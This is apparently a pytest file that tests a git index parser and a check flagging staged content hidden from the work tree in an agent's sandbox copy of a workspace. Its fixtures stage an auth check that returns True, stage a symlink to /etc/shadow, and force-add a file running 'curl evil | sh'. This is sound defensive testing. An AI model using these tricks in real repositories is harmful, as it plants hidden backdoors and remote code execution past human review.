"""A promoted index must stage only what the person can see (capsules/gitindex.py, core/gitindex.py).

Every index here is written by real git: a capsule's copy of a workspace is changed with
git's own commands (``add``, ``commit``, ``update-index --cacheinfo``), then judged
against the workspace as promotion would judge it.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from mcp_server.capsules import gitindex
from mcp_server.core import hazards
from mcp_server.core.gitindex import parse_index
from mcp_server.fs.changeset import Entry
from mcp_server.fs.view import RootView, Side
from tests.support.realprojects import git


def _workspace(tmp_path: Path, *init: str) -> Path:
    live = tmp_path / "live"
    live.mkdir()
    git(live, "init", "-q", "-b", "main", *init)
    (live / "src").mkdir()
    (live / "src" / "auth.py").write_text("def check(user):\n    return user.ok\n")
    (live / "README").write_text("hello\n")
    (live / "link").symlink_to("README")
    git(live, "add", "-A")
    git(live, "commit", "-q", "-m", "base")
    return live


def _capsule(tmp_path: Path, live: Path) -> Path:
    capsule = tmp_path / "capsule"
    shutil.copytree(live, capsule, symlinks=True)
    return capsule


def _judge(live: Path, capsule: Path, left_behind: tuple[str, ...] = ()) -> dict[str, str]:
    """capsules/gitindex.py's reasons for the capsule's change set, as promotion computes its inputs
    (``left_behind``: changed paths the scope does not promote)."""
    def files(root: Path) -> dict[str, tuple[bytes, int]]:  # a chmod is a change as the bytes are
        return {str(p.relative_to(root)): (p.read_bytes(), p.stat().st_mode) for p in root.rglob("*")
                if p.is_file() and not p.is_symlink()}
    old, new = files(live), files(capsule)
    side = Side("file", 0o644)
    entries = [Entry(path, side if path in old else None, side if path in new else None, path in old and path in new)
               for path in sorted(old.keys() | new.keys()) if old.get(path) != new.get(path)
               and path not in left_behind]
    checked = {e.path for e in entries if (oid := hazards.loose_object_id(e.path)) and e.new
               and hazards.true_loose_object(oid, (capsule / e.path).read_bytes())}
    with RootView.open(str(capsule)) as view:
        return gitindex.reasons(view, str(live), entries, (), checked)


def test_an_index_git_wrote_is_read_entry_for_entry_in_each_version(tmp_path: Path) -> None:
    live = _workspace(tmp_path)
    (live / "new.txt").write_text("n\n")
    git(live, "add", "-N", "new.txt")  # intent to add: an extended entry (version 3)
    listed = git(live, "ls-files", "-s").splitlines()
    for version in ("2", "3", "4"):
        if version != "3":
            git(live, "update-index", "--index-version", version)
        entries = parse_index((live / ".git" / "index").read_bytes())
        assert [f"{e.mode:o} {e.oid} {e.stage}\t{e.path}" for e in entries] == listed, version


def test_a_sha256_repository_index_is_read_with_its_longer_ids(tmp_path: Path) -> None:
    live = _workspace(tmp_path, "--object-format=sha256")
    entries = parse_index((live / ".git" / "index").read_bytes())
    assert {e.path: e.oid for e in entries} == {
        line.split("\t")[1]: line.split()[1] for line in git(live, "ls-files", "-s").splitlines()}
    assert all(len(e.oid) == 64 for e in entries)


@pytest.mark.parametrize("garbage", [b"", b"DIRC", b"DIRC\0\0\0\x09\0\0\0\x01" + b"\0" * 40,
                                     b"DIRC\0\0\0\x02\xff\xff\xff\xff" + b"\0" * 20])
def test_a_file_that_is_no_index_is_refused_as_malformed(garbage: bytes) -> None:
    with pytest.raises(ValueError):
        parse_index(garbage)


def test_a_truncated_index_is_refused_not_misread(tmp_path: Path) -> None:
    data = (_workspace(tmp_path) / ".git" / "index").read_bytes()
    for cut in (13, 70, len(data) // 2):
        with pytest.raises(ValueError):
            parse_index(data[:cut])


def test_staging_the_files_committing_them_or_a_stat_refresh_explain_the_index(tmp_path: Path) -> None:
    live = _workspace(tmp_path)
    capsule = _capsule(tmp_path, live)
    (capsule / "src" / "auth.py").write_text("def check(user):\n    return user.ok and user.active\n")
    (capsule / "src" / "new.py").write_text("x = 1\n")
    git(capsule, "add", "-A")
    assert _judge(live, capsule) == {}  # staged: each entry is its file's bytes
    git(capsule, "commit", "-q", "-m", "the agent's fix")
    (capsule / "src" / "auth.py").write_text("edited after the commit\n")  # the index is the new HEAD's
    assert _judge(live, capsule) == {}
    git(capsule, "status", "--porcelain")  # rewrites the index's stat data alone
    assert _judge(live, capsule) == {}


def test_a_blob_staged_unseen_is_git_control_naming_the_path(tmp_path: Path) -> None:
    live = _workspace(tmp_path)
    capsule = _capsule(tmp_path, live)
    evil = subprocess.run(["git", "-C", str(capsule), "hash-object", "-w", "--stdin"], input=b"def check(user):\n"
                          b"    return True\n", capture_output=True, check=True).stdout.decode().strip()
    git(capsule, "update-index", "--cacheinfo", f"100644,{evil},src/auth.py")
    assert git(capsule, "diff", "--stat") != ""  # the work tree still holds the old file: git diff shows the index
    reasons = _judge(live, capsule)
    assert list(reasons) == [".git/index"]
    assert "stages content for src/auth.py" in reasons[".git/index"]
    assert "git restore --staged" in reasons[".git/index"]
    # promotion's hazard check carries it as git_control on the index itself
    found = hazards.find([hazards.Change(".git/index", "write", "file", 0o644)], moved=reasons)
    assert [(h.kind, h.path) for h in found] == [("git_control", ".git/index")]


def test_a_link_staged_to_another_target_and_a_staged_then_edited_file_are_flagged(tmp_path: Path) -> None:
    live = _workspace(tmp_path)
    capsule = _capsule(tmp_path, live)
    (capsule / "link").unlink()
    (capsule / "link").symlink_to("/etc/shadow")
    git(capsule, "add", "link")
    (capsule / "link").unlink()
    (capsule / "link").symlink_to("README")  # back as it was: only the index holds the other target
    (capsule / "README").write_text("staged\n")
    git(capsule, "add", "README")
    (capsule / "README").write_text("edited after staging\n")
    assert "stages content for README, link " in _judge(live, capsule)[".git/index"]


def test_an_index_that_does_not_parse_is_flagged(tmp_path: Path) -> None:
    live = _workspace(tmp_path)
    capsule = _capsule(tmp_path, live)
    (capsule / ".git" / "index").write_bytes(b"DIRC\0\0\0\x02\0\0\0\x05 not an index at all")
    assert "an index that is not git's" in _judge(live, capsule)[".git/index"]


def test_the_head_lookup_asks_the_workspace_for_trees_the_capsule_did_not_write(tmp_path: Path) -> None:
    live = _workspace(tmp_path)
    (live / "src" / "deep").mkdir()
    (live / "src" / "deep" / "x.py").write_text("x\n")
    git(live, "add", "-A")
    git(live, "commit", "-q", "-m", "deep")
    (live / "README").write_text("staged by the person\n")
    (live / "src" / "deep" / "x.py").write_text("staged by the person\n")
    git(live, "add", "-A")
    capsule = _capsule(tmp_path, live)
    git(capsule, "reset", "-q")  # unstaged: the index is HEAD's again, the files the person's
    assert _judge(live, capsule) == {}  # HEAD is the host's commit: its git lists the paths
    git(capsule, "commit", "-q", "--allow-empty", "-m", "the capsule's commit, over the host's tree")
    assert _judge(live, capsule) == {}  # the capsule's loose commit, then the host's trees
    readme = git(capsule, "rev-parse", "HEAD~1:README").strip()
    git(capsule, "update-index", "--cacheinfo", f"100644,{readme},src/deep/x.py")
    assert "stages content for src/deep/x.py" in _judge(live, capsule)[".git/index"]


def test_a_file_the_scope_leaves_behind_explains_no_staged_entry(tmp_path: Path) -> None:
    live = _workspace(tmp_path)
    (live / ".gitignore").write_text("build/\n")
    git(live, "add", ".gitignore")
    git(live, "commit", "-q", "-m", "ignore build")
    capsule = _capsule(tmp_path, live)
    (capsule / "build").mkdir()
    (capsule / "build" / "run.py").write_text("import os; os.system('curl evil | sh')\n")
    git(capsule, "add", "-f", "build/run.py")
    assert _judge(live, capsule) == {}  # promoted with its file: the person gets what is staged
    # promotion skips the ignored file by default, so the workspace never holds what the index stages
    assert "stages content for build/run.py" in _judge(live, capsule, ("build/run.py",))[".git/index"]


def test_a_mode_staged_unseen_is_flagged_and_a_chmod_then_add_is_not(tmp_path: Path) -> None:
    live = _workspace(tmp_path)
    capsule = _capsule(tmp_path, live)
    git(capsule, "update-index", "--chmod=+x", "src/auth.py")  # the file stays 644: its next commit is 755
    assert "stages content for src/auth.py" in _judge(live, capsule)[".git/index"]
    (capsule / "src" / "auth.py").chmod(0o755)
    git(capsule, "add", "src/auth.py")
    assert _judge(live, capsule) == {}
    readme = git(capsule, "rev-parse", ":README").strip()  # the file's own blob, staged as a link to its text
    git(capsule, "update-index", "--cacheinfo", f"120000,{readme},README")
    assert "stages content for README" in _judge(live, capsule)[".git/index"]


def test_a_line_ending_conversion_staged_but_not_committed_is_explained(tmp_path: Path) -> None:
    live = _workspace(tmp_path)
    git(live, "config", "core.autocrlf", "true")
    capsule = _capsule(tmp_path, live)
    (capsule / "src" / "auth.py").write_bytes(b"def check(user):\r\n    return user.ok and user.active\r\n")
    git(capsule, "add", "src/auth.py")  # stages the lines with LF endings
    assert git(capsule, "diff", "--cached", "--stat") != ""
    assert _judge(live, capsule) == {}
    other = subprocess.run(["git", "-C", str(capsule), "hash-object", "-w", "--stdin"], input=b"def check(user):\n"
                           b"    return True\n", capture_output=True, check=True).stdout.decode().strip()
    git(capsule, "update-index", "--cacheinfo", f"100644,{other},src/auth.py")
    assert "stages content for src/auth.py" in _judge(live, capsule)[".git/index"]


def test_a_zero_checksum_is_read_at_the_hash_size_whose_layout_ends_at_it(tmp_path: Path) -> None:
    live = tmp_path / "live"
    live.mkdir()
    git(live, "init", "-q", "--object-format=sha256")
    (live / "a.py").write_text("x = 4\n")  # its SHA-256 id's bytes also read as a SHA-1 entry with a garbage path
    git(live, "add", "a.py")
    data = (live / ".git" / "index").read_bytes()
    skipped = data[:-32] + bytes(32)  # as index.skipHash writes it
    assert [(e.path, e.oid) for e in parse_index(skipped)] == [
        ("a.py", git(live, "rev-parse", ":a.py").strip())]
